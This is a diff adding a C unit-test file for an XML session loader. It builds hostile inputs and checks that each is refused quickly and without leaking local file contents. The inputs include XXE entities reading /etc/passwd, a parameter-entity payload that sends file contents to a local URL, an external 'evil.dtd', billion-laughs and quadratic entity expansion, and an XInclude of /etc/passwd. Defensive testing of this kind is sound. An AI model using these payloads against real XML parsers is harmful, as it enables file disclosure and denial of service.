@@ -1,0 +1,366 @@
+/*
+ * Hostile inputs: each is refused with a clear message, quickly (< 2 s) and
+ * without a memory spike (< 100 MB of peak RSS growth), and nothing of a
+ * local file leaks into diagnostics. The inputs are generated here, at run
+ * time, into the build's test folder: no binary or dangerous file is kept in
+ * the repository.
+ */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/resource.h>
+#include <sys/stat.h>
+#include <time.h>
+
+#include <cmocka.h>
+
+#include "load.h"
+
+#define MAX_SECONDS 2.0
+#define MAX_RSS_KB (100L * 1024L)
+
+static hd_loader *loader;
+static char dir[1024];
+
+static int setup(void **state)
+{
+	hd_diags d = HD_DIAGS_INIT;
+	int rc = hd_loader_new(&loader, HD_SOURCE_DIR "/xml/schema/v1", &d);
+
+	hd_diags_print(&d, stderr);
+	hd_diags_free(&d);
+	mkdir(HD_TEST_TMP, 0777);
+	snprintf(dir, sizeof(dir), "%s/hostile", HD_TEST_TMP);
+	mkdir(dir, 0777);
+	return rc ? -1 : 0;
+}
+
+static int teardown(void **state)
+{
+	hd_loader_free(loader);
+	return 0;
+}
+
+static const char session_head[] =
+	"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
+	"<session xmlns=\"urn:handout:session:1\" version=\"1\">\n";
+static const char session_rest[] =
+	"  <date>2026-11-20</date>\n"
+	"  <therapist>Maria</therapist>\n"
+	"  <techniques><technique ref=\"swedish\"/></techniques>\n"
+	"  <areas><area>neck</area></areas>\n"
+	"</session>\n";
+
+/* Writes len bytes to dir/name; returns the path in a static buffer. */
+static const char *write_input(const char *name, const void *data, size_t len)
+{
+	static char path[1200];
+	FILE *f;
+
+	snprintf(path, sizeof(path), "%s/%s", dir, name);
+	f = fopen(path, "wb");
+	assert_non_null(f);
+	assert_int_equal(fwrite(data, 1, len, f), len);
+	fclose(f);
+	return path;
+}
+
+static const char *write_text(const char *name, const char *text)
+{
+	return write_input(name, text, strlen(text));
+}
+
+/* A session whose client name is the given XML fragment, after a prolog. */
+static const char *write_session(const char *name, const char *prolog, const char *client_name)
+{
+	hd_buf b = HD_BUF_INIT;
+	const char *path;
+
+	hd_buf_puts(&b, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n");
+	hd_buf_puts(&b, prolog);
+	hd_buf_puts(&b, "<session xmlns=\"urn:handout:session:1\" version=\"1\">\n  <client><name>");
+	hd_buf_puts(&b, client_name);
+	hd_buf_puts(&b, "</name></client>\n");
+	hd_buf_puts(&b, session_rest);
+	assert_false(b.oom);
+	path = write_input(name, b.data, b.len);
+	hd_buf_free(&b);
+	return path;
+}
+
+static double now(void)
+{
+	struct timespec ts;
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
+}
+
+static long maxrss_kb(void)
+{
+	struct rusage ru;
+	getrusage(RUSAGE_SELF, &ru);
+	return ru.ru_maxrss;
+}
+
+/* Loads path as a session; asserts that it is refused with a message
+ * containing want, quickly and in bounded memory, and that no line of
+ * /etc/passwd shows up anywhere. */
+static void expect_refused(const char *path, const char *want)
+{
+	hd_diags d = HD_DIAGS_INIT;
+	hd_session_rec *s = (hd_session_rec *)1;
+	hd_buf all = HD_BUF_INIT;
+	char line[1600];
+	long rss0 = maxrss_kb();
+	double t0 = now(), dt;
+	size_t i;
+	int rc;
+
+	rc = hd_load_session(&s, loader, path, &d);
+	dt = now() - t0;
+	assert_true(rc == HD_EINPUT || rc == HD_EIO);
+	assert_null(s);
+	assert_true(d.nerrors >= 1);
+	for (i = 0; i < d.count; i++) {
+		hd_diag_format(line, sizeof(line), &d.items[i]);
+		hd_buf_printf(&all, "%s\n", line);
+	}
+	if (!strstr(all.data, want))
+		fprintf(stderr, "%s: wanted \"%s\", got:\n%s", path, want, all.data);
+	assert_non_null(strstr(all.data, want));
+	assert_null(strstr(all.data, "root:"));
+	assert_null(strstr(all.data, "/bin/"));
+	if (dt >= MAX_SECONDS)
+		fprintf(stderr, "%s: took %.2f s\n", path, dt);
+	assert_true(dt < MAX_SECONDS);
+	assert_true(maxrss_kb() - rss0 < MAX_RSS_KB);
+	hd_buf_free(&all);
+	hd_diags_free(&d);
+}
+
+static void test_xxe(void **state)
+{
+	const char *path = write_session("xxe.xml",
+		"<!DOCTYPE session [\n  <!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n]>\n", "&xxe;");
+	expect_refused(path, ":2:1: error: DOCTYPE is not allowed in handout files");
+}
+
+static void test_parameter_entity(void **state)
+{
+	const char *path = write_session("param-entity.xml",
+		"<!DOCTYPE session [\n"
+		"  <!ENTITY % file SYSTEM \"file:///etc/passwd\">\n"
+		"  <!ENTITY % eval \"<!ENTITY &#x25; leak SYSTEM 'http://127.0.0.1:9/?%file;'>\">\n"
+		"  %eval;\n  %leak;\n]>\n", "Sam");
+	expect_refused(path, "DOCTYPE is not allowed in handout files");
+}
+
+static void test_external_dtd(void **state)
+{
+	const char *path = write_session("external-dtd.xml",
+		"<!DOCTYPE session SYSTEM \"http://127.0.0.1:9/evil.dtd\">\n", "Sam");
+	expect_refused(path, ":2:1: error: DOCTYPE is not allowed in handout files");
+}
+
+static void test_billion_laughs(void **state)
+{
+	hd_buf b = HD_BUF_INIT;
+	int i, j;
+
+	hd_buf_puts(&b, "<!DOCTYPE session [\n  <!ENTITY lol0 \"lol\">\n");
+	for (i = 1; i <= 9; i++) {
+		hd_buf_printf(&b, "  <!ENTITY lol%d \"", i);
+		for (j = 0; j < 10; j++)
+			hd_buf_printf(&b, "&lol%d;", i - 1);
+		hd_buf_puts(&b, "\">\n");
+	}
+	hd_buf_puts(&b, "]>\n");
+	expect_refused(write_session("billion-laughs.xml", b.data, "&lol9;"),
+	               "DOCTYPE is not allowed in handout files");
+	hd_buf_free(&b);
+}
+
+static void test_quadratic_blowup(void **state)
+{
+	hd_buf b = HD_BUF_INIT, refs = HD_BUF_INIT;
+	size_t i;
+
+	hd_buf_puts(&b, "<!DOCTYPE session [\n  <!ENTITY a \"");
+	for (i = 0; i < 50 * 1024; i++)
+		hd_buf_putc(&b, 'a');
+	hd_buf_puts(&b, "\">\n]>\n");
+	for (i = 0; i < 50000; i++)
+		hd_buf_puts(&refs, "&a;");
+	assert_true(b.len + refs.len > 190 * 1024);
+	expect_refused(write_session("quadratic.xml", b.data, refs.data),
+	               "DOCTYPE is not allowed in handout files");
+	hd_buf_free(&b);
+	hd_buf_free(&refs);
+}
+
+static uint32_t crc32_of(const unsigned char *p, size_t n)
+{
+	uint32_t c = 0xFFFFFFFFu;
+	size_t i;
+	int k;
+
+	for (i = 0; i < n; i++) {
+		c ^= p[i];
+		for (k = 0; k < 8; k++)
+			c = (c >> 1) ^ (0xEDB88320u & (0u - (c & 1u)));
+	}
+	return ~c;
+}
+
+/* A real gzip file (one stored deflate block) holding a valid session: it
+ * must be refused, not transparently decompressed. */
+static void test_gzip(void **state)
+{
+	hd_buf xml = HD_BUF_INIT, gz = HD_BUF_INIT;
+	unsigned char hdr[10] = { 0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3 };
+	unsigned char blk[5], tail[8];
+	uint32_t crc;
+	size_t n;
+	int i;
+
+	hd_buf_puts(&xml, session_head);
+	hd_buf_puts(&xml, "  <client><name>Sam</name></client>\n");
+	hd_buf_puts(&xml, session_rest);
+	n = xml.len;
+	crc = crc32_of((const unsigned char *)xml.data, n);
+	blk[0] = 1; /* final block, stored */
+	blk[1] = (unsigned char)(n & 0xff);
+	blk[2] = (unsigned char)(n >> 8);
+	blk[3] = (unsigned char)~blk[1];
+	blk[4] = (unsigned char)~blk[2];
+	for (i = 0; i < 4; i++) {
+		tail[i] = (unsigned char)(crc >> (8 * i));
+		tail[4 + i] = (unsigned char)(n >> (8 * i));
+	}
+	hd_buf_append(&gz, hdr, sizeof(hdr));
+	hd_buf_append(&gz, blk, sizeof(blk));
+	hd_buf_append(&gz, xml.data, n);
+	hd_buf_append(&gz, tail, sizeof(tail));
+	expect_refused(write_input("session.xml.gz.xml", gz.data, gz.len),
+	               "error: this is not an XML file (it looks like gzip-compressed data)\n"
+	               "  hint: decompress it first (gunzip), then give the .xml file");
+	hd_buf_free(&xml);
+	hd_buf_free(&gz);
+}
+
+static void test_deep_nesting(void **state)
+{
+	hd_buf b = HD_BUF_INIT;
+	int i;
+
+	hd_buf_puts(&b, session_head);
+	hd_buf_puts(&b, "<client><name>Sam</name></client><date>2026-11-20</date><notes>");
+	for (i = 0; i < 100000; i++)
+		hd_buf_puts(&b, "<p>");
+	for (i = 0; i < 100000; i++)
+		hd_buf_puts(&b, "</p>");
+	hd_buf_puts(&b, "</notes></session>\n");
+	assert_false(b.oom);
+	expect_refused(write_input("deep.xml", b.data, b.len),
+	               "error: elements are nested too deeply (more than 256 levels)");
+	hd_buf_free(&b);
+}
+
+static void test_invalid_utf8(void **state)
+{
+	expect_refused(write_session("bad-utf8.xml", "", "Zo\xc3\x28 Lee"),
+	               ":3:19: error: the file is not valid UTF-8 text (0xC3 0x28 0x20 0x4C)\n"
+	               "  hint: save the file with the UTF-8 encoding");
+}
+
+static void test_nul_byte(void **state)
+{
+	static const char text[] = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
+	                           "<session xmlns=\"urn:handout:session:1\" version=\"1\">\n"
+	                           "  <client><name>Sam\0Lee</name></client>\n</session>\n";
+	expect_refused(write_input("nul.xml", text, sizeof(text) - 1),
+	               ":3:20: error: the file contains a NUL (zero) byte, which XML does not allow");
+}
+
+static void test_empty(void **state)
+{
+	expect_refused(write_text("empty.xml", ""), "empty.xml: error: the file is empty\n");
+	expect_refused(write_text("blank.xml", " \n\t\n"),
+	               "error: the file is empty (it holds only white space)");
+}
+
+static void test_directory(void **state)
+{
+	char path[1200];
+	snprintf(path, sizeof(path), "%s/folder.xml", dir);
+	mkdir(path, 0777);
+	expect_refused(path, "folder.xml: error: this is a folder, not a file");
+}
+
+static void test_png(void **state)
+{
+	static const unsigned char png[] = {
+		0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R',
+		0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1f, 0x15, 0xc4, 0x89,
+	};
+	expect_refused(write_input("logo.xml", png, sizeof(png)),
+	               "logo.xml: error: this is not an XML file (it looks like a PNG image)\n"
+	               "  hint: give the path of a handout .xml file");
+}
+
+static void test_too_large(void **state)
+{
+	hd_buf b = HD_BUF_INIT;
+	size_t i;
+
+	hd_buf_puts(&b, session_head);
+	hd_buf_puts(&b, "<client><name>Sam</name></client>\n<!--");
+	for (i = 0; b.len < HD_MAX_RECORD_FILE + 1000; i++)
+		hd_buf_puts(&b, "padding padding padding padding padding padding padding\n");
+	hd_buf_puts(&b, "-->\n</session>\n");
+	expect_refused(write_input("huge.xml", b.data, b.len), "error: file is too large (");
+	hd_buf_free(&b);
+}
+
+/* XInclude is never processed: the element is simply not in the vocabulary. */
+static void test_xinclude(void **state)
+{
+	const char *path = write_text("xinclude.xml",
+		"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
+		"<session xmlns=\"urn:handout:session:1\" version=\"1\">\n"
+		"  <client><name>Sam</name></client>\n"
+		"  <date>2026-11-20</date>\n"
+		"  <therapist>Maria</therapist>\n"
+		"  <techniques><technique ref=\"swedish\"/></techniques>\n"
+		"  <areas><area>neck</area></areas>\n"
+		"  <notes><p>x</p><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\"\n"
+		"     href=\"/etc/passwd\" parse=\"text\"/></notes>\n"
+		"</session>\n");
+	expect_refused(path, ":9: error: <xi:include> is not allowed inside <notes>\n"
+	                     "  hint: use <p>, <ul> or <ol>");
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_xxe),
+		cmocka_unit_test(test_parameter_entity),
+		cmocka_unit_test(test_external_dtd),
+		cmocka_unit_test(test_billion_laughs),
+		cmocka_unit_test(test_quadratic_blowup),
+		cmocka_unit_test(test_gzip),
+		cmocka_unit_test(test_deep_nesting),
+		cmocka_unit_test(test_invalid_utf8),
+		cmocka_unit_test(test_nul_byte),
+		cmocka_unit_test(test_empty),
+		cmocka_unit_test(test_directory),
+		cmocka_unit_test(test_png),
+		cmocka_unit_test(test_too_large),
+		cmocka_unit_test(test_xinclude),
+	};
+	return cmocka_run_group_tests(tests, setup, teardown);
+}
